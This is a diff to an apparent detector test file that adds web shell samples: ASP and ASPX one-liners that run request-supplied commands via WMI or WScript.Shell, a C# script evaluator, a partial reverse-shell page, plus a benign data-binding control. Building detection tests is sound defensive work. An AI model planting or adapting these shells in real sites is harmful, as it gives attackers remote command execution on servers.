@@ -123,6 +123,26 @@ public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { Stre
         "<% set o=getobject(\"winmgmts:\\\\.\\root\\cimv2:win32_process\")\nr=o.create(request(\"k\"),null,null,n) %>",
     ),
     (
+        "locator.asp",
+        "<% set o=server.createobject(\"wbemscripting.swbemlocator\").connectserver(\".\",\"root/cimv2\").get(\"win32_process\")\nr=o.create(request(\"k\"),null,null,n) %>",
+    ),
+    (
+        "management.aspx",
+        r#"<%@ Page Language="C#" %><% new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { Request["k"], null, null, 0 }); %>"#,
+    ),
+    (
+        "native.aspx",
+        r#"<%@ Page Language="C#" %><script runat="server">
+[DllImport("ws2_32.dll")] static extern IntPtr WSASocket(int a, int t, int p, IntPtr i, uint g, int f);
+[DllImport("kernel32.dll")] static extern bool CreateProcess(string a, string c, IntPtr p, IntPtr t, bool i, uint f, IntPtr e, string d, ref SI s, out PI o);
+void Go() { s = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0); CreateProcess(null, shell, a, b, true, 0, c, null, ref si, out pi); }
+</script>"#,
+    ),
+    (
+        "script.cshtml",
+        "@using Microsoft.CodeAnalysis.CSharp.Scripting\n@{ var r = CSharpScript.EvaluateAsync(Request[\"k\"]).Result; }\n@r",
+    ),
+    (
         "progid.aspx",
         r#"<%@ Page Language="C#" %><% Type t = Type.GetTypeFromProgID("WScript.Shell"); object o = Activator.CreateInstance(t); t.InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { "cmd /c " + Request.Headers["X-K"] }); %>"#,
     ),
@@ -209,6 +229,10 @@ void Go(object s, EventArgs e) { string n = Path.GetFileName(up.FileName); up.Sa
     (
         "beside.aspx",
         r#"<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0]; f.SaveAs(Server.MapPath(".") + "\\pictures\\" + f.FileName); %>"#,
+    ),
+    (
+        "bound.aspx",
+        r#"<%@ Page Language="C#" %><asp:Repeater runat="server"><ItemTemplate><%# Eval("Name") %> <%# DataBinder.Eval(Container.DataItem, "Price", "{0:c}") %></ItemTemplate></asp:Repeater>"#,
     ),
     (
         "handler.ashx",
